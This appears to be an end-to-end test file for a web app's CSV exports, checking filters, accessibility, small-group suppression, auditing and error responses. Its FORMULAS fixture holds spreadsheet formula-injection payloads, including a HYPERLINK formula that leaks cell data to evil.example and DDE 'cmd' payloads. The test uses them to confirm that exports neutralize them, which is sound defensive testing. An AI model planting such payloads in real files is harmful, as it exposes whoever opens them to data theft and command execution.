/**
 * CSV exports on the built server: the Overview's "Download CSV" links keep the filter and
 * download files whose rows match the query; imported titles that look like formulas come out
 * neutralized; figures below k read "fewer than k people"; every export is audited; a bad
 * filter is a 400. (Anonymous and non-member requests are refused by route-access.test.ts.)
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import AxeBuilder from "@axe-core/playwright";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { importFile } from "../../app/imports/import-file.server";
import { fileSource } from "../../app/imports/source.server";
import { openDatabase } from "../../db/connection";
import { listAudit } from "../../db/queries/audit";
import { listRoleSummaries } from "../../db/queries/dashboard";
import { setKThreshold } from "../../db/queries/workspace-admin";
import { ensureWorkspace, getWorkspaceBySlug } from "../../db/queries/workspaces";
import { createUser, loginAs, loginCookie, type TestUser } from "../support/auth";
import { launchBrowser } from "../support/browser";
import { startServer, type RunningServer } from "../support/server";

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"];
// (A leading tab or CR cannot survive an import, which trims cells; app/csv/write-csv.test.ts covers them.)

let server: RunningServer;
let browser: Awaited<ReturnType<typeof launchBrowser>>;
let viewer: TestUser;
let cookie: string;

function withDb<T>(run: (conn: ReturnType<typeof openDatabase>) => T): T {
  const conn = openDatabase(server.dbPath, { migrate: false });
  try {
    return run(conn);
  } finally {
    conn.close();
  }
}

async function download(path: string) {
  const res = await fetch(`${server.url}${path}`, { headers: { Cookie: cookie }, redirect: "manual" });
  const body = await res.text();
  return { res, body, rows: Papa.parse<string[]>(body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data };
}

beforeAll(async () => {
  server = await startServer();
  // A workspace whose titles, departments and tasks are formulas, imported through the import path.
  const dir = join(server.dbPath, "..");
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  writeFileSync(
    join(dir, "evil-jobs.csv"),
    "role_id,title,department,level,headcount,responsibilities\n" +
      FORMULAS.map((f, i) => [`R${i}`, quote(f), quote(f), "Senior", 8, quote(`• ${f}\n• Review the plan ${i}`)].join(",")).join("\n"),
  );
  writeFileSync(
    join(dir, "evil-logs.csv"),
    "employee_id,role,date,task,hours\n" + ["A", "B", "C"].map((e) => `${e},R0,2026-07-01,${quote(FORMULAS[0])},2`).join("\n"),
  );
  const connection = openDatabase(server.dbPath, { migrate: false });
  try {
    const workspace = ensureWorkspace(connection.db, "evil", "Evil Corp");
    for (const [kind, file] of [["jobs", "evil-jobs.csv"], ["logs", "evil-logs.csv"]] as const) {
      const outcome = await importFile({ connection, workspace, kind, source: fileSource(join(dir, file)), actor: "test" });
      expect(outcome.status).toBe("imported");
    }
  } finally {
    connection.close();
  }
  viewer = await createUser(server.dbPath, { email: "viewer@example.com", grants: { demo: "viewer", evil: "viewer" } });
  cookie = await loginCookie(server.url, viewer.email);
  browser = await launchBrowser();
  await loginAs(browser.page, server.url, viewer.email);
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

describe("the Overview's Download CSV links", () => {
  test("carry the filter; the downloaded roles.csv has one row per selected role", async () => {
    const { page } = browser;
    const department = withDb((c) => listRoleSummaries(c.db, getWorkspaceBySlug(c.db, "demo")!.id, {})[0].department);
    await page.goto(`${server.url}/w/demo?department=${encodeURIComponent(department)}&adoption=0.9`);
    const link = page.getByRole("link", { name: /^Roles \(roles\.csv\)/ });
    await expect(link.getAttribute("href")).resolves.toBe(`/w/demo/export/roles.csv?department=${encodeURIComponent(department).replace(/%20/g, "+")}`);
    await expect(page.getByRole("link", { name: /^Overrides/ }).getAttribute("href")).resolves.toBe("/w/demo/export/overrides.csv");

    const [file] = await Promise.all([page.waitForEvent("download"), link.click()]);
    expect(file.suggestedFilename()).toBe("demo-roles.csv");
    const text = readFileSync((await file.path())!, "utf8");
    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    const expected = withDb((c) => listRoleSummaries(c.db, getWorkspaceBySlug(c.db, "demo")!.id, { department: [department] }));
    expect(rows[0].slice(0, 4)).toEqual(["role_id", "title", "department", "level"]);
    expect(rows.slice(1).map((r) => r[1])).toEqual(expected.map((r) => r.title));
    expect(new Set(rows.slice(1).map((r) => r[2]))).toEqual(new Set([department]));

    // Without the filter: every role.
    const all = await download("/w/demo/export/roles.csv");
    expect(all.rows.length - 1).toBe(withDb((c) => listRoleSummaries(c.db, getWorkspaceBySlug(c.db, "demo")!.id, {}).length));
    expect(all.rows.length - 1).toBeGreaterThan(rows.length - 1);
  });

  test("the Overview with its download section has no serious or critical accessibility violations", async () => {
    const { page } = browser;
    await page.goto(`${server.url}/w/demo`);
    await page.getByRole("heading", { name: "Download CSV" }).waitFor();
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.filter((v) => v.impact === "serious" || v.impact === "critical").map((v) => v.id)).toEqual([]);
  });
});

describe("exported files", () => {
  test("imported formulas come out as text: every such cell starts with an apostrophe", async () => {
    for (const name of ["roles.csv", "tasks.csv", "departments.csv"]) {
      const { res, body, rows } = await download(`/w/evil/export/${name}`);
      expect(res.status, name).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="evil-${name}"`);
      expect(res.headers.get("cache-control")).toBe("no-store");
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), name).toEqual([]);
      expect(body).not.toMatch(/(^|[\n,])"?[=+@]/);
      for (const formula of FORMULAS) expect(cells, `${name}: ${formula}`).toContain(`'${formula}`);
    }
    const { rows } = await download("/w/evil/export/roles.csv");
    expect(rows.slice(1).map((r) => r[1])).toEqual(expect.arrayContaining(FORMULAS.map((f) => `'${f}`)));
  });

  test("figures from fewer than k people read \"fewer than k people\", with no number left in their place", async () => {
    // Three people logged R0; its figures are shown at k = 3 and hidden at k = 4.
    withDb((c) => setKThreshold(c.db, getWorkspaceBySlug(c.db, "evil")!.id, 3));
    const shown = await download("/w/evil/export/roles.csv");
    const column = (rows: string[][], name: string) => rows.slice(1).find((r) => r[0] === "R0")![rows[0].indexOf(name)];
    expect(column(shown.rows, "people_logging")).toBe("3");
    expect(Number(column(shown.rows, "annual_hours"))).toBeGreaterThan(0);

    withDb((c) => setKThreshold(c.db, getWorkspaceBySlug(c.db, "evil")!.id, 4));
    const hidden = await download("/w/evil/export/roles.csv");
    const r0 = hidden.rows.slice(1).find((r) => r[0] === "R0")!;
    const header = hidden.rows[0];
    for (const name of ["annual_hours", "automatable_share", "logged_hours", "people_logging", "atomization"]) {
      expect(r0[header.indexOf(name)], name).toBe("fewer than 4 people");
    }
    const tasks = await download("/w/evil/export/tasks.csv");
    const logged = tasks.rows.slice(1).filter((r) => r[0] === "R0" && r[tasks.rows[0].indexOf("logged")] === "yes");
    expect(logged.length).toBeGreaterThan(0);
    for (const r of logged) expect(r.slice(-2)).toEqual(["fewer than 4 people", "fewer than 4 people"]);
    const departments = await download("/w/evil/export/departments.csv");
    expect(departments.rows[1].slice(4).every((c) => c === "fewer than 4 people")).toBe(true);
  });

  test("each export is audited with who, which file and the filter", async () => {
    const { rows } = await download("/w/demo/export/tasks.csv?level=1&level=2");
    const [event] = withDb((c) => listAudit(c.db, { workspaceId: getWorkspaceBySlug(c.db, "demo")!.id, limit: 1 }));
    expect(event).toMatchObject({ actor: viewer.email, actorUserId: viewer.id, action: "export.csv", detail: { export: "tasks.csv", filter: { level: [1, 2] } } });
    // The streamed file is whole: every selected role's tasks.
    const roles = withDb((c) => listRoleSummaries(c.db, getWorkspaceBySlug(c.db, "demo")!.id, { level: [1, 2] }));
    expect(new Set(rows.slice(1).map((r) => r[1]))).toEqual(new Set(roles.map((r) => r.title)));
  });

  test("a bad filter is a 400 that says what is wrong", async () => {
    const { res, body } = await download("/w/demo/export/roles.csv?level=x");
    expect(res.status).toBe(400);
    expect(body).toBe(`This link's filter is not valid: level: level must be a number, got "x".\n`);
  });
});
